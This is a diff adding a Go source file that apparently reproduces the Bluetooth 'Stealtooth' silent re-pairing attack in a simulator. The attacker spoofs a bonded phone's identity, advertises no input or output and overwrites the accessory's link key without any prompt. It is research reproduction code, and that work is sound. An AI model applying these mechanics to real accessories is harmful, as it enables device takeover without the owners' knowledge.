@@ -1,0 +1,87 @@
+package core
+
+import (
+	"time"
+
+	"repro/internal/bt"
+	"repro/internal/device"
+	"repro/internal/host"
+	"repro/internal/sim"
+)
+
+// Stealtooth-style silent automatic re-pairing (Kimura et al.): the
+// attacker impersonates the bonded phone M toward the accessory C. C
+// authenticates the returning "phone" with its stored key; the attacker
+// cannot answer the challenge and responds LMP_not_accepted with "PIN or
+// Key Missing", which the accessory's link manager treats as "the peer
+// lost its key" — and silently re-pairs. Both ends are IO-less, so Just
+// Works runs without a single dialog, and the accessory's bond for M now
+// holds a key the attacker knows.
+
+// StealtoothConfig parameterizes the silent re-pairing run.
+type StealtoothConfig struct {
+	// Attacker is device A; Client is the bonded accessory C being taken
+	// over; VictimAddr is the bonded phone identity A assumes.
+	Attacker   *device.Device
+	Client     *device.Device
+	VictimAddr bt.BDADDR
+	// VictimCOD is the class of device A advertises while impersonating.
+	VictimCOD bt.ClassOfDevice
+	// OriginalKey is the setup bond key (used to report the overwrite).
+	OriginalKey bt.LinkKey
+	// SettleTime bounds the run; defaults to 30 s.
+	SettleTime time.Duration
+}
+
+// StealtoothReport is the outcome of one silent re-pairing run.
+type StealtoothReport struct {
+	// RePaired reports that C silently negotiated a fresh key with the
+	// attacker for the victim's address.
+	RePaired bool
+	// KeyChanged reports that C's stored key for the victim's address no
+	// longer matches the original bond.
+	KeyChanged bool
+	// NewKey is C's stored key after the attack (zero when no bond).
+	NewKey bt.LinkKey
+	// ClientPrompts counts dialogs shown on C during the attack — the
+	// point of the attack is that this stays zero.
+	ClientPrompts int
+	// Elapsed is virtual time consumed.
+	Elapsed time.Duration
+}
+
+// RunStealtooth executes the silent automatic re-pairing attack against
+// an accessory already bonded to VictimAddr.
+func RunStealtooth(s *sim.Scheduler, cfg StealtoothConfig) StealtoothReport {
+	var rep StealtoothReport
+	start := s.Now()
+	a, c := cfg.Attacker, cfg.Client
+
+	settle := cfg.SettleTime
+	if settle <= 0 {
+		settle = 30 * time.Second
+	}
+
+	// Assume the bonded phone's identity, and advertise no IO so the
+	// silent re-pairing runs Just Works.
+	a.Host.SetIOCapability(bt.NoInputNoOutput)
+	a.SpoofIdentity(cfg.VictimAddr, cfg.VictimCOD)
+
+	// Connect to the accessory. C authenticates the returning bonded
+	// peer on its own (AuthenticateBondedIncoming); A's missing key turns
+	// that authentication into a silent re-pairing.
+	a.Host.Connect(c.Addr(), func(*host.Conn, error) {})
+
+	s.RunFor(settle)
+	rep.Elapsed = s.Now() - start
+
+	clientBond := c.Host.Bonds().Get(cfg.VictimAddr)
+	attackerBond := a.Host.Bonds().Get(c.Addr())
+	if clientBond != nil {
+		rep.NewKey = clientBond.Key
+		rep.KeyChanged = clientBond.Key != cfg.OriginalKey
+	}
+	rep.RePaired = clientBond != nil && attackerBond != nil &&
+		clientBond.Key == attackerBond.Key && rep.KeyChanged
+	return rep
+}
